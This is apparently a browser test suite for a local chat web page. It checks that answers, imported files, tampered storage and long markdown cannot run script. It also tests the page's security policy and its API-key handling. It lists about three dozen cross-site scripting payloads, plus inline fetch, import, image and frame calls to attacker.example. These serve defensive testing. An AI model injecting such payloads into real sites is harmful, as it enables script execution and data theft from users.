// What a hostile answer, file, store or site can do to the chat page: nothing. And how its files are served.
import assert from "node:assert/strict";
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { gunzipSync } from "node:zlib";
import { raw, startServer } from "../server/harness.mjs";
import { answer, ask, axeFinds, launch, sayInstead, visit } from "./chat_page.mjs";

let server, browser;
before(async () => {
  server = await startServer();
  browser = await launch();
});
after(async () => {
  await browser?.close();
  await server?.stop();
});

const hostile = [
  "<script>window.hacked = 1</script>",
  "<img src=x onerror='window.hacked = 1'>",
  "<svg><script>window.hacked = 1</script></svg>",
  "<svg/onload=window.hacked=1>",
  "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
  "<iframe src='javascript:parent.hacked=1'></iframe>",
  "<object data='javascript:window.hacked=1'></object><embed src='javascript:window.hacked=1'>",
  "<a href='javascript:window.hacked=1'>click</a>",
  "[click](javascript:window.hacked=1)",
  "[click](JaVaScRiPt:window.hacked=1)",
  "[click](&#106;avascript:window.hacked=1)",
  "[click](data:text/html,<script>window.hacked=1</script>)",
  "[click](vbscript:window.hacked)",
  "![x](http://attacker.example/?words=all)",
  "![x](javascript:window.hacked=1)",
  '![x](x"onerror="window.hacked=1)',
  '[x](http://x.example/"onmouseover="window.hacked=1)',
  "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.hacked=1&gt;'>",
  "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
  "<form action='http://attacker.example/'><input name=attributes><button>send</button></form>",
  "<a id=prompt name=body href=x>clobbers</a><input id=thread>",
  "<style>* { background: url(http://attacker.example/) }</style>",
  "<link rel=stylesheet href=http://attacker.example/>",
  "<meta http-equiv=refresh content='0;url=http://attacker.example/'>",
  "<base href=http://attacker.example/>",
  "<p style='position:fixed;inset:0;background:url(http://attacker.example/)'>over it all</p>",
  "<video><source onerror='window.hacked=1'></video><audio src=x onerror=window.hacked=1>",
  "<details open ontoggle=window.hacked=1>x</details><body onload=window.hacked=1>",
  "<template><script>window.hacked=1</script></template><xmp><script>window.hacked=1</script></xmp>",
  "```\"><script>window.hacked=1</script>\ncode\n```",
  "```html\n<script>window.hacked=1</script>\n```",
  "| <img src=x onerror=window.hacked=1> | b |\n|---|---|\n| <script>window.hacked=1</script> | [x](javascript:window.hacked=1) |",
  "# <img src=x onerror=window.hacked=1>",
  "[ref]\n\n[ref]: javascript:window.hacked=1 'x'",
  "<javascript:window.hacked=1>",
  "\u0000<scr\u0000ipt>window.hacked=1</script>",
];
const all = hostile.join("\n\n");

/** A page that counts what it asks of anybody else, and every script that runs as `hacked`. */
async function victim(t) {
  const page = await visit(browser, "about:blank");
  page.elsewhere = [];
  page.on("request", (request) => {
    if (!request.url().startsWith(server.url) && !request.url().startsWith("about:")) page.elsewhere.push(request.url());
  });
  page.on("dialog", (dialog) => page.elsewhere.push(dialog.message()));
  await page.goto(server.url);
  t.after(() => page.context().close());
  return page;
}

async function unharmed(page) {
  const prose = page.locator(".prose");
  for (const link of await prose.locator("a").all()) await link.dispatchEvent("mouseover");
  await page.waitForTimeout(200);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  const found = await prose.evaluateAll((places) =>
    places.flatMap((place) =>
      [...place.querySelectorAll("*")].flatMap((element) => {
        const own = element.closest(".code-head, .fault") !== null; // the page's own buttons
        const tag = element.localName;
        const fine = /^(a|b|blockquote|br|code|del|div|em|h[1-6]|hr|i|li|ol|p|pre|s|strong|sub|sup|table|tbody|td|th|thead|tr|ul)$/;
        const names = [...element.attributes].map(({ name }) => name);
        const bad = names.filter((name) => !/^(href|start|align|target|rel|tabindex)$/.test(name) && !(name === "class" && /^(code|table|code-head|plain|waiting)$/.test(element.className)));
        const href = element.getAttribute("href") ?? "https:";
        return own ? [] : [...(fine.test(tag) ? [] : [tag]), ...bad, ...(/^(https?|mailto):/i.test(href) ? [] : [href])];
      }),
    ),
  );
  assert.deepEqual(found, []);
  assert.equal(await page.locator("#prompt").evaluate((element) => element.localName), "textarea");
  assert.deepEqual(page.elsewhere, []);
  assert.deepEqual(page.faults, []);
}

test("a hostile answer runs no script, whole and piece by piece", async (t) => {
  for (const pieces of [1, 400]) {
    const page = await victim(t);
    await sayInstead(page, all, pieces);
    await ask(page, "Attack me.");
    const words = await answer(page);
    await unharmed(page);
    assert.ok(words.includes("<script>window.hacked = 1</script>"), "raw HTML is shown as the words that it is");
  }
  const page = await victim(t);
  for (const one of hostile) {
    await page.unroute("**/v1/chat/completions");
    await sayInstead(page, one, 2);
    await page.getByRole("button", { name: "New conversation" }).click();
    await ask(page, "Attack me.");
    await answer(page);
    await unharmed(page);
  }
});

test("the model itself says hostile words", async (t) => {
  const page = await victim(t);
  await page.route("**/v1/chat/completions", (route) =>
    route.continue({ postData: JSON.stringify({ ...route.request().postDataJSON(), choice: [all.replaceAll("\u0000", "")] }) }),
  );
  await ask(page, "Attack me.");
  assert.ok((await answer(page)).includes("onerror='window.hacked = 1'"));
  await unharmed(page);
});

test("a hostile question, title and file do nothing", async (t) => {
  const page = await victim(t);
  await page.locator("#prompt").fill(all);
  await sayInstead(page, "Well.");
  await page.locator("#prompt").press("Enter");
  await answer(page);
  await unharmed(page);
  assert.ok((await page.locator(".bubble").innerText()).includes("<svg/onload=window.hacked=1>"));

  const evil = {
    id: "<img src=x onerror=window.hacked=1>",
    title: "<img src=x onerror=window.hacked=1>",
    created: 1,
    updated: Date.now() + 1e6,
    system: all,
    sampling: { temperature: "<script>window.hacked=1</script>", __proto__: { x: 1 } },
    messages: [
      { role: "user", content: all },
      { role: "assistant", content: all, end: "<b>", error: all, model: all, stats: { tokens: all, rate: all, first: all } },
    ],
  };
  const file = JSON.stringify({ format: "1bit-chat", version: 1, conversations: [evil] });
  await page.locator("#file").setInputFiles({ name: "evil.json", mimeType: "application/json", buffer: Buffer.from(file) });
  await page.locator("#list .choose").first().click();
  await page.locator(".turn.answer").waitFor();
  await unharmed(page);
  assert.equal(await page.locator("#list img, #title img, .fault img").count(), 0);
  await page.getByRole("searchbox").fill("img");
  await unharmed(page);
  await page.reload();
  await page.locator(".turn.answer").waitFor();
  await unharmed(page);
});

test("a store that somebody wrote into does nothing, and what is no conversation is left out", async (t) => {
  const page = await victim(t);
  await page.locator('#dot[data-state="ok"]').waitFor();
  await page.evaluate((text) => {
    localStorage.setItem("1bit-settings", "{not json");
    localStorage.setItem("1bit-theme", "<script>");
    return new Promise((resolve) => {
      indexedDB.open("1bit-chat", 1).onsuccess = ({ target }) => {
        const change = target.result.transaction("conversations", "readwrite");
        const objects = change.objectStore("conversations");
        objects.put({ id: "a", title: text, messages: [{ role: "assistant", content: text }], updated: 5 });
        objects.put({ id: "b", messages: "none" });
        objects.put({ id: "c" });
        objects.put({ id: "d", messages: [{ role: "user", content: "kept" }], sampling: 3, system: {}, updated: "x" });
        change.oncomplete = resolve;
      };
    });
  }, all);
  await page.goto(server.url + "/#a");
  await page.reload();
  await page.locator(".turn.answer").waitFor();
  await unharmed(page);
  assert.equal(await page.locator("#list .choose").count(), 2);
});

test("words that a parser would not come back from are shown as they are, and the page lives", async (t) => {
  const page = await victim(t);
  await page.locator('#dot[data-state="ok"]').waitFor();
  const heavy = [">".repeat(4000), "[a](".repeat(10000), "*a ".repeat(20000), "- ".repeat(3000) + "x", Array.from({ length: 800 }, (_, i) => " ".repeat(2 * i) + "- x").join("\n"), "long ".repeat(200000)];
  await page.evaluate((texts) => new Promise((resolve) => {
    indexedDB.open("1bit-chat", 1).onsuccess = ({ target }) => {
      const change = target.result.transaction("conversations", "readwrite");
      change.objectStore("conversations").put({ id: "heavy", title: "heavy", messages: texts.flatMap((content) => [{ role: "user", content: "?" }, { role: "assistant", content }]), updated: 5 });
      change.oncomplete = resolve;
    };
  }), heavy);
  await page.goto(server.url + "/#heavy");
  const begin = performance.now();
  await page.reload();
  await page.locator(".turn.answer").nth(heavy.length - 1).waitFor({ timeout: 20000 });
  console.log(`# shown after ${((performance.now() - begin) / 1000).toFixed(1)} s`);
  for (const [i, text] of heavy.entries()) assert.ok((await page.locator(".turn.answer").nth(i).textContent()).includes(text.trim().slice(0, 1000)), `answer ${i}`);
  await unharmed(page);
});

test("the policy holds even without the sanitiser", async (t) => {
  const page = await victim(t);
  const refused = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => violations.push(effectiveDirective));
    const script = document.createElement("script");
    await new Promise((resolve) => setTimeout(resolve)); // what a debugger evaluates at once may do more
    let typed = "";
    for (const attempt of [
      () => (document.body.innerHTML = "<img src=x onerror=window.hacked=1>"),
      () => document.write("<p>x</p>"),
      () => (script.textContent = "window.hacked = 1"),
      () => setTimeout("window.hacked = 1", 0),
      () => new Function("window.hacked = 1")(),
      () => window.trustedTypes.createPolicy("mine", {}),
    ]) {
      try {
        attempt();
        typed += "passed;";
      } catch {
        typed += "refused;";
      }
    }
    const inline = document.createElement("img");
    inline.setAttribute("src", "http://attacker.example/x.png");
    document.body.append(inline);
    script.append(document.createTextNode("window.hacked = 1"));
    document.body.append(script);
    const imported = await import("http://attacker.example/x.js").then(
      () => "imported",
      () => "refused",
    );
    const link = document.createElement("link");
    Object.assign(link, { rel: "stylesheet", href: "http://attacker.example/x.css" });
    document.head.append(link);
    const style = document.createElement("p");
    style.setAttribute("style", "color: red");
    const fetched = await fetch("http://attacker.example/").then(
      () => "fetched",
      () => "refused",
    );
    const frame = document.createElement("iframe");
    frame.src = "http://attacker.example/";
    document.body.append(frame);
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { typed, fetched, imported, color: style.style.color, violations: [...new Set(violations)].sort() };
  });
  assert.equal(refused.typed, "refused;refused;refused;refused;refused;refused;");
  assert.equal(refused.fetched, "refused");
  assert.equal(refused.imported, "refused");
  assert.equal(refused.color, "");
  for (const directive of ["connect-src", "frame-src", "img-src", "script-src-elem", "style-src-attr", "style-src-elem"])
    assert.ok(refused.violations.includes(directive), `${directive} of ${refused.violations}`);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
  assert.deepEqual(page.elsewhere.filter((url) => !url.startsWith("http://attacker.example/")), []);
});

test("the key is asked for, kept here only, and forgotten", async (t) => {
  const folder = await fs.mkdtemp(path.join(os.tmpdir(), "keys-"));
  await fs.writeFile(path.join(folder, "keys"), "its-key\n");
  const closed = await startServer(["--api-key-file", path.join(folder, "keys")]);
  t.after(async () => {
    await closed.stop();
    await fs.rm(folder, { recursive: true });
  });
  const page = await visit(browser, closed.url);
  t.after(() => page.context().close());
  const dialog = page.getByRole("dialog", { name: "This server wants an API key" });
  const key = dialog.getByLabel("API key");
  await dialog.waitFor();
  assert.deepEqual(await axeFinds(page), []);
  assert.equal((await fetch(closed.url + "/v1/models")).status, 401, "only the page's files need none");
  await key.fill("not it");
  await page.keyboard.press("Enter");
  await page.getByText("without spaces").waitFor();
  await key.fill("another-key");
  await page.keyboard.press("Enter");
  await page.getByText("The server does not know this key.").waitFor();
  await key.fill("its-key");
  await page.keyboard.press("Enter");
  await page.locator('#dot[data-state="ok"]').waitFor();
  await ask(page, "What is the capital of France?");
  assert.equal(await answer(page), "The capital of France is Paris.");
  await page.reload();
  await page.locator('#dot[data-state="ok"]').waitFor();
  assert.equal(await page.evaluate(() => document.cookie), "");
  const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Export" }).click()]);
  assert.ok(!(await fs.readFile(await download.path(), "utf8")).includes("its-key"), "no key leaves with the conversations");

  await page.getByRole("button", { name: "Settings of this conversation" }).click();
  await page.getByRole("button", { name: "Forget it" }).click();
  await page.keyboard.press("Escape");
  await dialog.waitFor();
  await dialog.getByRole("button", { name: "Not now" }).click();
  await page.getByText("needs a key").waitFor();
  assert.deepEqual(await page.evaluate(() => Object.values({ ...localStorage, ...sessionStorage }).filter((v) => v.includes("its-key"))), []);
  await ask(page, "What is the capital of Japan?");
  await dialog.waitFor();
  await key.fill("its-key");
  await dialog.getByLabel("Keep it in this browser").uncheck();
  await page.keyboard.press("Enter");
  await page.getByText("The capital of Japan is Tokyo.").waitFor();
  assert.equal(await page.evaluate(() => localStorage.getItem("1bit-key")), null);
});

test("the page's files: types, policy, compression, tags, and under 150 KB", async () => {
  let bytes = 0;
  const page = await (await fetch(server.url + "/")).text();
  assert.doesNotMatch(page, /<script(?![^>]*\ssrc=)|<style|\son\w+=|\sstyle=|https?:\/\//);
  for (const [name, type] of Object.entries({ "/": "text/html", "/page.js": "text/javascript", "/page.css": "text/css", "/page.svg": "image/svg+xml" })) {
    const get = (headers) => raw(server.port, `GET ${name} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n${headers}\r\n`);
    const [head, body] = (await get("Accept-Encoding: br;q=1, gzip;q=0.5\r\n")).split(/\r\n\r\n([^]*)/);
    const header = (field) => new RegExp(`^${field}: (.*?)\r?$`, "im").exec(head)?.[1];
    assert.match(head, /^HTTP\/1.1 200/);
    assert.equal(header("Content-Encoding"), "gzip");
    assert.ok(header("Content-Type").startsWith(type));
    const policy = header("Content-Security-Policy");
    assert.match(policy, /default-src 'none'; script-src 'self'; style-src 'self'; connect-src 'self'/);
    assert.doesNotMatch(policy, /unsafe|\*|https?:|data:|blob:/);
    assert.match(policy, /frame-ancestors 'none'/);
    assert.equal(header("X-Content-Type-Options"), "nosniff");
    assert.equal(header("Referrer-Policy"), "no-referrer");
    assert.equal(header("Vary"), "Accept-Encoding");
    assert.equal(Number(header("Content-Length")), body.length);
    bytes += body.length;
    const plain = gunzipSync(Buffer.from(body, "latin1")).toString("latin1");
    for (const none of ["", "Accept-Encoding: gzip;q=0\r\n", "Accept-Encoding: identity\r\n"]) {
      const whole = await get(none);
      assert.doesNotMatch(whole, /Content-Encoding/i);
      assert.equal(whole.split(/\r\n\r\n([^]*)/)[1], plain);
    }
    const known = await get(`Accept-Encoding: gzip\r\nIf-None-Match: "x", W/${header("ETag")}\r\n`);
    assert.match(known, /^HTTP\/1.1 304[^]*\r\n\r\n$/);
    assert.match(await get(`If-None-Match: ${header("ETag")}\r\n`), /^HTTP\/1.1 200/, "the other form has another tag");
    const headOnly = await raw(server.port, `HEAD ${name} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\nAccept-Encoding: gzip\r\n\r\n`);
    assert.match(headOnly, new RegExp(`^HTTP/1.1 200[^]*Content-Length: ${body.length}\r\n([^]*\r\n)?\r\n$`));
    assert.match(await raw(server.port, `POST ${name} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 0\r\nConnection: close\r\n\r\n`), /^HTTP\/1.1 405[^]*Allow: GET, HEAD/);
    assert.match(await raw(server.port, `GET ${name} HTTP/1.1\r\nHost: attacker.example\r\nConnection: close\r\n\r\n`), /^HTTP\/1.1 403/, "another name for this machine");
    assert.match(await raw(server.port, `GET ${name} HTTP/1.1\r\nHost: localhost\r\nOrigin: http://attacker.example\r\nConnection: close\r\n\r\n`), /^HTTP\/1.1 403/);
  }
  console.log(`# the page has ${bytes} bytes, compressed`);
  assert.ok(bytes < 150_000);
  assert.equal((await fetch(server.url + "/page.map")).status, 404);
  assert.match(server.log, /route=page status=304/);
});
